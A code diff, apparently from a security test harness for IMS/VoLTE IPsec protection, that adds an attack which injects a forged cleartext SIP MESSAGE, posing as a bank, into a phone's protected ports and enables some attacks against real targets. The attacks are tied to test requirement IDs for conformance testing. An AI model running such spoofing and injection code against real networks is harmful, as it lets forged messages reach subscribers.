@@ -86,6 +86,16 @@ def _in_the_victims_name(stage: Stage) -> str:
     return "UE 2 got a message that UE never wrote" if forged else ""
 
 
+async def _writes_to_port_us(stage: Stage) -> None:
+    """Clear text to the UE between the very ports of SA2."""
+    await stage.register()
+    notes = stage.attacker.notes
+    src = _protected_end(notes, "port-c", sm6)
+    dst = _protected_end(notes, "port-s", sm1)
+    stage.put(_clear_message(src, dst))
+    await stage.wait(5)
+
+
 async def _resets(stage: Stage) -> None:
     """RST to both ends of the victim's connection, in the name of the other."""
     await stage.register()
@@ -141,13 +151,18 @@ def _gave_up(stage: Stage) -> str:
 
 def _writes_to_the_ue(seen: Sight, _notes: Notes) -> list[Forged]:
     """MESSAGE from the P-CSCF's unprotected port to the one from which SM1 came."""
+    trick = Trick.DATAGRAM if b"SIP/2.0/UDP" in seen.text else Trick.SEGMENT
+    return [_clear_message(seen.dst, seen.src)._replace(trick=trick)]
+
+
+def _clear_message(src: Endpoint, dst: Endpoint) -> Forged:
+    """MESSAGE to a UE that no network has ever seen."""
     request = (
-        f"MESSAGE sip:ue@{seen.src} SIP/2.0\r\nVia: SIP/2.0/UDP {seen.dst};branch=z9hG4bKclear\r\n"
+        f"MESSAGE sip:ue@{dst} SIP/2.0\r\nVia: SIP/2.0/UDP {src};branch=z9hG4bKclear\r\n"
         f"Max-Forwards: 70\r\nFrom: <sip:bank@example>;tag=1\r\nTo: <sip:ue@example>\r\n"
         f"Call-ID: clear@attacker\r\nCSeq: 1 MESSAGE\r\nContent-Length: 6\r\n\r\n{_FORGED}"
     )
-    trick = Trick.DATAGRAM if b"SIP/2.0/UDP" in seen.text else Trick.SEGMENT
-    return [Forged(seen.dst, seen.src, request.encode(), trick)]
+    return Forged(src, dst, request.encode())
 
 
 def _shown(stage: Stage) -> str:
@@ -202,7 +217,7 @@ ATTACKS: Final = (
         (Replay(on=forge.readable("MESSAGE"), after_s=_REPLAY_S),),
         suite=READABLE,
         transports=UDP_ONLY,
-        real=NEVER,
+        real=UDP_ONLY,
     ),
     Attack(
         "clear text between protected ports",
@@ -221,6 +236,15 @@ ATTACKS: Final = (
         ("UNP-01", "SA-25"),
         _writes_to_the_unprotected_port,
         _in_the_victims_name,
+    ),
+    Attack(
+        "clear text to port_us",
+        "clear text, RST or ICMP to protected ports",
+        "the UE shows what nobody vouches for",
+        "SA-21, ERR-17",
+        ("SA-21",),
+        _writes_to_port_us,
+        _shown,
     ),
     Attack(
         "TCP RST",
@@ -298,7 +322,6 @@ ATTACKS: Final = (
         _waits_for_the_old_set,
         _old_set,
         (Inject(on=forge.esp_up, forge=_nothing),),
-        real=NEVER,
     ),
 )
 """Rows 12, 20 to 22, 26 and 27."""
